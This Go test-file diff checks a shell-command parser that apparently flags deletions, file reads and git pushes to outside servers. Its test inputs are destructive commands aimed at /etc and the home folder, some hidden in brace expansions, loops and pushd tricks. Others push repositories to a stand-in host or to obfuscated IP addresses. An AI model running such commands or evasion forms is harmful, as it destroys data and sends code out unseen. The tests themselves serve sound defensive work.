@@ -46,6 +46,88 @@ func TestParse_Commands_GiveTheirEffects(t *testing.T) {
 	}
 }
 
+// Each of these once ended in a panic, or left out the word, the item or the folder that matters.
+func TestParse_ListsAndFolders_AreReadWhole(t *testing.T) {
+	many := strings.Repeat("a ", 600)
+	for _, tt := range []struct {
+		command, list, value string
+	}{
+		{"git config remote.url x", "git", "config"},
+		{"git config remote.pushurl x", "git", "config"},
+		{"git -c remote.pushurl=x status", "git", "status"},
+		{"git -c remote.url=x status", "git", "status"},
+		{"X=abc; cat ${X:1:9223372036854775807}", "reads", "/w/bc"},
+		{"X=abc; cat ${X:0:2}", "reads", "/w/ab"},
+		{"rm -rf {{/,x},y}", "deletes", "/"},
+		{"rm -rf {a,{b,/etc}}", "deletes", "/etc"},
+		{"rm -rf {a,{b,{c,/etc}}}", "deletes", "/etc"},
+		{"rm -rf {a,{b,c}}/{d,{e,f}}", "deletes", "/w/c/f"},
+		{"for d in a b c d e f g docker /etc; do rm -rf \"$d\"; done", "deletes", "/etc"},
+		{"for d in git curl wget node docker psql kubectl terraform perl /etc; do rm -rf \"$d\"; done", "deletes", "/etc"},
+		{"echo " + many + "/etc | xargs rm -rf", "unresolved", shell.TooComplex},
+		{"rm -rf {" + strings.Repeat("a,", 600) + "/etc}", "unresolved", shell.TooComplex},
+		{"rm -rf " + strings.Repeat("{a,b}", 12), "unresolved", shell.TooComplex},
+		{"for d in" + strings.Repeat(" ~/.ssh/id_rsa", 9) + " /etc; do rm -rf \"$d\"; done", "unresolved", shell.TooComplex},
+		{"pushd /etc && cat hosts && popd && rm -rf build", "deletes", "/w/build"},
+		{"pushd /srv; pushd a; popd; rm -rf build", "deletes", "/srv/build"},
+		{"pushd build; pushd /etc; popd; popd; rm -rf x", "deletes", "/w/x"},
+		{"pushd /etc; pushd; pushd; rm -rf x", "deletes", "/etc/x"},
+		{"f() { pushd /etc; }; f; rm -rf x; popd; rm -rf y", "deletes", "/w/y"},
+		{"pushd /etc; (popd); rm -rf x", "deletes", "/etc/x"},
+		{"popd; rm -rf x", "deletes", "/w/x"},
+	} {
+		params := shell.Parse(tt.command, "/w").Params(tt.command)
+		if list, _ := params[tt.list].([]any); !slices.Contains(list, any(tt.value)) {
+			t.Errorf("%.80q: %s are %v, want %q among them", tt.command, tt.list, list, tt.value)
+		}
+	}
+	for _, command := range []string{
+		"for d in git curl wget node python3 docker psql kubectl terraform perl; do command -v $d; done", "echo {1..9000}", "touch {a,b,{c,d}}.txt",
+		"echo " + strings.Repeat("a ", 400) + "| xargs rm", "for i in {1..100} a b c d e f g h i j; do echo $i; done",
+	} {
+		if e := shell.Parse(command, "/w"); slices.Contains(e.Unresolved, shell.TooComplex) {
+			t.Errorf("%.80q: unresolved are %v, want none that is too complex", command, e.Unresolved)
+		}
+	}
+}
+
+// Remotes are told apart by upper and lower case, and servers are named in many forms.
+func TestParse_Pushes_AreToOtherServersInEachForm(t *testing.T) {
+	for command, want := range map[string]bool{
+		"git remote add x https://host.example/a.git; git push x":                              true,
+		"git remote add a https://host.example/a.git; git remote rename a b; git push b":       true,
+		"git config remote.Evil.url https://host.example/a.git; git push Evil":                 true,
+		"git config set remote.x.url https://host.example/a.git; git push x":                   true,
+		"git config set --append remote.x.url https://host.example/a.git; git push x":          true,
+		"git config set --comment why remote.x.pushurl https://host.example/a.git; git push x": true,
+		"git push ssh://[2001:db8::1]/x.git":                                                   true,
+		"git push ssh://git@[2001:db8::1]:22/x.git":                                            true,
+		"git push https://3405803781/x":                                                        true,
+		"git push https://0xCB00710A/x":                                                        true,
+		"git push https://bucket.s3.amazonaws.com/x.git":                                       true,
+		"git push https://git-codecommit.example.s3.amazonaws.com/x.git":                       true,
+		"git push https://git-codecommit.eu-west-1.amazonaws.com/v1/repos/x":                   false,
+		"git push ssh://git-codecommit-fips.us-east-1.amazonaws.com/v1/repos/x":                false,
+		"git push ssh://[::1]/x.git":                                                           false,
+		"git push http://2130706433/x.git":                                                     false,
+		"git push https://github.com/a/b":                                                      false,
+		"git push https://github.com./a/b":                                                     false,
+		"git config remote.Fork.url git@github.com:a/b.git; git push Fork":                     false,
+		"git config get remote.origin.url; git push origin":                                    false,
+		"git config unset remote.x.url; git push origin HEAD:main":                             false,
+		"git remote add a https://github.com/a/b; git remote rename a b; git push b":           false,
+	} {
+		if git := shell.Parse(command, "/w").Git; slices.Contains(git, "push to another server") != want {
+			t.Errorf("%q: got %v, want a push to another server %v", command, git, want)
+		}
+	}
+	for _, command := range []string{"git config set alias.p 'push --force'; git p", "git config set --global alias.p 'push --force' && git p origin x"} {
+		if git := shell.Parse(command, "/w").Git; !slices.Contains(git, "push --force") {
+			t.Errorf("%q: got %v, want push --force", command, git)
+		}
+	}
+}
+
 func TestParse_FileWrittenInParts_IsReadWhole(t *testing.T) {
 	for _, command := range []string{
 		"echo 'rm -rf ~' > f; echo ls >> f; sh f", "printf 'rm -r' > f; printf 'f ~' >> f; sh f", "echo 'rm -rf ~' | tee f; echo ls | tee -a f; sh ./f",
